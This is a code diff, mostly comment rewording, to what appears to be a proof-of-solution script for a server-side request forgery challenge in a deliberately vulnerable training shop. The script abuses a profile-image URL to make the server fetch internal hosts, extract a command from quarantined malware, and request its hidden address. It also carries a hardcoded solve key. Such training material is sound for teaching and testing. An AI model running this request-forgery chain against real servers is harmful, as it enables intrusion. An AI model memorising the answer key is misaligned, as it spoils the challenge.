@@ -4,14 +4,14 @@ import { challenge } from './challenge.ts'
 const DOOR = '/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
 const SHORTCUT = '/ftp/quarantine/juicy_malware_linux_amd_64.url'
 
-/** Sends a form of the page of the account. */
+/** Submits a form of the account page. */
 function send(attacker: Attacker, path: string, fields: Readonly<Record<string, string>>) {
   const headers = { 'content-type': 'application/x-www-form-urlencoded' }
   return attacker.post(path, new URLSearchParams(fields).toString(), { headers })
 }
 const linkPicture = (attacker: Attacker, imageUrl: string) => send(attacker, '/profile/image/url', { imageUrl })
 
-/** Takes what is at an address as the picture of a new account. */
+/** Sets the profile picture of a new account by URL. */
 const link =
   (imageUrl: string): Attack =>
   async (attacker) => {
@@ -19,7 +19,7 @@ const link =
     await linkPicture(attacker, imageUrl)
   }
 
-/** What the machine finds at an address, read where the pictures of accounts are kept. */
+/** Returns the response that the server received from a URL, read from the folder of profile pictures. */
 async function fetched(attacker: Attacker, address: string): Promise<string> {
   await linkPicture(attacker, address)
   const [, place] = /src="(\/assets\/public\/images\/uploads\/[^"]+\.jpg)"/.exec((await attacker.get('/profile')).text)!
@@ -29,10 +29,10 @@ async function fetched(attacker: Attacker, address: string): Promise<string> {
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.becomeCustomer()
-    // A shortcut in quarantine leads to a host that only the machine of the shop can reach.
+    // A shortcut in quarantine names a host that only the server can reach.
     const [, worm] = /^URL=(.+)$/m.exec((await attacker.get(SHORTCUT)).text)!
     const source = await fetched(attacker, worm!.trim())
-    // It is a script: what it runs is written backwards, in Base64.
+    // The file is a script that decodes its command: reversed text in Base64.
     const core = Buffer.from(/core='([^']+)'/.exec(source)![1]!, 'base64').toString()
     const [, address] = /"(http[^"]+)"/.exec([...core].reverse().join(''))!
     await linkPicture(attacker, address!)
